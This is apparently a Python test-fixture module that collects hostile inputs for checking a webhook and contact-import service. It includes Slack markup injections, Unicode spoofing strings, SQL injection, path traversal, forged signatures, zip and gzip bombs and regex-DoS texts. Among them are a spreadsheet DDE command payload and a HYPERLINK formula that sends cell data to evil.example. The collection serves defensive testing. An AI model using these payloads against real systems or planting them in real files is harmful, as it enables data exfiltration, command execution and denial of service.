"""Hostile inputs of our own: enough that a clone without the shared collection tests the same."""

from __future__ import annotations

import gzip
import hashlib
import hmac
import io
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

from core.clock import Clock

INJECTIONS: Final = (
    "Acme <!everyone> Ltd", "<!channel|hi>", "<!here>", "<@U0ADMIN>", "<#C0SECRET|general>", "<!subteam^S1|@ops>",
    "<https://evil.example|https://bank.example>", "<!date^1392734382^{date}^https://evil.example|x>", "&lt;!everyone&gt;",
    "@everyone @channel @here", "```x``` `y` *b* _i_ ~s~ > quote", '<b>x</b><a href="tg://user?id=1">Boss</a>',
    "[x](tg://user?id=1) *b _i", "{name} {0} %s ${x}", "\\u202e {{7*7}}", "line\n\n• fake\nBot: done",
)  # fmt: skip
SPOOFS: Final = (
    "invoice\u202egpj.exe", "\u2066\u2067abc\u2069", "\u202b\u202bname", "Ac\u200bme", "a\u200db", "\ufeffAcme x", "A" + "\u0301" * 60,
    "x\u2069\u2069\u2069y", "nul\x00byte", "\U000e0041\U000e0042tag", "\x1b[31mred\x07", "أكمي\u202e ١٢٣ Ltd", "\u2028line\u2029para",
)  # fmt: skip
FORMULAS: Final = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1", "＋1", "－1", "＠1",
    '=HYPERLINK("http://evil.example?x="&A1,"x")', '"=1', "safe\n=cmd", "|x", "0501234567", "+966501234567", "-5", "'=1", "''+1",
)  # fmt: skip
TAMPERED: Final = (
    "", "x" * 22, "x" * 65, "أ" * 32, "done:1", "done:1; drop table x--", '{"command": "undo"}', "../../etc/passwd", "\x00", "a:1:00000000",
)  # fmt: skip
SEARCHES: Final = (
    "canaryterm' OR '1'='1", "canaryterm%", "canaryterm_", "canaryterm\\", 'canaryterm"; DROP TABLE customers; --', "canaryterm) UNION SELECT 1",
    " ".join(f"canaryterm{number}" for number in range(1000)),
)  # fmt: skip


@dataclass(frozen=True)
class Request:
    """One request to a webhook."""

    body: bytes
    headers: dict[str, str]


def forged_slack(number: int, secret: str, clock: Clock) -> Request:
    """A request that Slack did not sign, or that is too old, or broken; of several kinds in turn."""
    body = b'{"type": "event_callback", "event_id": "Ev%d"}' % number
    now = int(clock.now().timestamp())
    stamps = (str(now), str(now - 301), str(now + 301), "abc", "9" * 5000, "-1", "")
    stamp = stamps[number % len(stamps)]
    good = "v0=" + hmac.new(secret.encode(), f"v0:{stamp}:".encode() + body, hashlib.sha256).hexdigest()
    signatures = (
        good[:-1] + ("0" if good[-1] != "0" else "1"),
        "",
        "v0=",
        good.upper(),
        "v0=" + "g" * 64,
        "x" * 10_000,
    )
    signature = good if stamp != str(now) and number % 2 else signatures[number % len(signatures)]
    if number % 50 == 49:
        body = b"x" * (6 * 1024 * 1024)
    kind = "application/json"
    return Request(body, {"X-Slack-Request-Timestamp": stamp, "X-Slack-Signature": signature, "Content-Type": kind})


def forged_telegram(number: int, secret: str) -> Request:
    """A request without Telegram's secret, or with it and a body that is none."""
    header = "X-Telegram-Bot-Api-Secret-Token"
    good = b'{"update_id": 1, "message": {}}'
    wrong = ("", secret[:-1], secret + "x", "x", "9" * 5000, secret.swapcase())
    broken = (b"", b"not json", b"\xff\xfe", b"[" * 100_000, b"[1]", b'{"update_id": "1"}')
    if number % 50 == 49:
        return Request(b"x" * (10 * 1024 * 1024), {header: secret})
    if number % 2:
        return Request(broken[number % len(broken)], {header: secret})
    return Request(good, {header: wrong[number % len(wrong)]})


def bombs(size: int) -> Iterator[tuple[str, bytes]]:
    """Files that are much more than they seem, made one at a time; ``size`` is about how many bytes the plain ones have."""
    yield "one_line.csv", b"name,phone\n" + b"a" * size
    yield "quote_open.csv", b'name\n"' + b"x," * (size // 2)
    yield "columns.csv", ",".join(f"c{number}" for number in range(size // 250)).encode() + b"\n"
    yield "rows.csv", b"name\n" + b"a\n" * (size // 25)
    yield "nul.csv", b"name\na\x00b\n"
    yield "fold.vcf", b"BEGIN:VCARD\nVERSION:3.0\nFN:a\nNOTE:" + b"x\n " * (size // 25) + b"\nEND:VCARD\n"
    yield "nested.vcf", b"BEGIN:VCARD\n" * (size // 2500)
    yield "photo.vcf", b"BEGIN:VCARD\nVERSION:3.0\nFN:a\nPHOTO;ENCODING=b:" + b"A" * (size // 2) + b"\nEND:VCARD\n"
    yield "photo_elsewhere.vcf", b"BEGIN:VCARD\nVERSION:4.0\nFN:a\nPHOTO:http://127.0.0.1:1/x\nEND:VCARD\n"
    for name, inside, data in (
        ("packed.xlsx", "xl/worksheets/sheet1.xml", b"0" * (size * 4)),
        ("slip.xlsx", "../../evil.csv", b"x"),
    ):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
            packed.writestr(inside, data)
        yield name, out.getvalue()
    yield "packed.csv.gz", gzip.compress(b"a," * size)


def slow_texts(letters: int) -> Iterator[tuple[str, str]]:
    """Texts that patterns of the usual careless kind take for ever to read."""
    for name, piece in (
        ("letters", "a"), ("blanks", " "), ("digits", "1"), ("dashes", "-"), ("phones", "+966 50 "), ("mails", "a@a."), ("quotes", '"'),
        ("colons", "1:"), ("times", "at 10 "), ("numbers", "1,"), ("ands", "and "), ("و", "و"), ("tatweel", "ـ"), ("marks", "ً"), ("brackets", "(("),
    ):  # fmt: skip
        yield name, (piece * (letters // len(piece) + 1))[:letters] + "!"
        yield f"call {name}", "called acme " + (piece * (letters // len(piece) + 1))[:letters]
